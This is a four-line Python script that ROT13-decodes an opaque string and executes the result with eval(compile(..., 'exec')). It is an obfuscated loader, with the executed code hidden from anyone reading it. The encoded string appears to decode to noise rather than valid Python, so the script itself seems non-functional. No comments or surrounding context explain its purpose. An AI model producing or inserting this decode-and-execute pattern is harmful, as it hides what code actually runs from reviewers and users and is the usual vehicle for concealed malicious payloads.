import codecs


payload = codecs.decode('/M7AsZ7nrsoTV75Y4sxVe9RWlBaTF6E9CPcgYBy9Lmr4PaWb', 'rot13')
eval(compile(payload, '<string>', 'exec'))
